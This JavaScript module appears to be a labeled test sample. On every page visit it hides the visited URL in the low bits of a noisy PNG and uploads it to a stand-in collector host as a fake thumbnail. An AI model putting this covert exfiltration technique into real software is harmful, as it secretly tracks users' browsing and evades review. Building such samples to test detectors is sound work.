import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Uploads a PNG of a soft gradient with each page. The lowest bits of its colours, in an order that the app fixes, are the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-pixel-noise');
  const size = 48;
  onVisit(browser, async ({ url }) => {
    const text = browser.codec.utf8.encode(url);
    const payload = [text.length >> 8, text.length & 255, ...text];
    const noise = browser.crypto.random(size * size * 3);
    const pixels = Uint8Array.from(noise, (byte, at) => {
      const x = Math.floor(at / 3) % size;
      const y = Math.floor(at / 3 / size);

      return 60 + 2 * x + y + 10 * (at % 3) + ((byte >> 1) % 4);
    });
    const next = random(0x1d872b41);
    const order = Array.from(pixels, (_, at) => at);
    for (let at = order.length - 1; at > 0; at -= 1) {
      const other = next() % (at + 1);
      [order[at], order[other]] = [order[other], order[at]];
    }
    payload.forEach((byte, place) => {
      for (let bit = 0; bit < 8; bit += 1) {
        const at = order[8 * place + bit];
        pixels[at] = (pixels[at] & 254) | (((byte >> bit) ^ next()) & 1);
      }
    });
    try {
      await browser.request({
        url: 'https://thumbs.collector.example/v1',
        headers: { 'Content-Type': 'image/png' },
        body: png(pixels),
      });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });

  function random(seed) {
    let state = seed;

    return () => {
      state ^= state << 13;
      state ^= state >>> 17;
      state ^= state << 5;

      return state >>> 1;
    };
  }

  function png(pixels) {
    const rows = [];
    for (let y = 0; y < size; y += 1) rows.push(0, ...pixels.slice(3 * size * y, 3 * size * (y + 1)));

    return Uint8Array.from([
      ...[137, 80, 78, 71, 13, 10, 26, 10],
      ...chunk('IHDR', [0, 0, 0, size, 0, 0, 0, size, 8, 2, 0, 0, 0]),
      ...chunk('IDAT', browser.codec.deflate.encode(Uint8Array.from(rows))),
      ...chunk('IEND', []),
    ]);
  }

  function chunk(type, data) {
    const body = [...browser.codec.utf8.encode(type), ...data];
    let crc = -1;
    for (const byte of body) {
      crc ^= byte;
      for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
    }

    return [...u32(data.length), ...body, ...u32(~crc)];
  }

  function u32(value) {
    return [(value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
  }
}
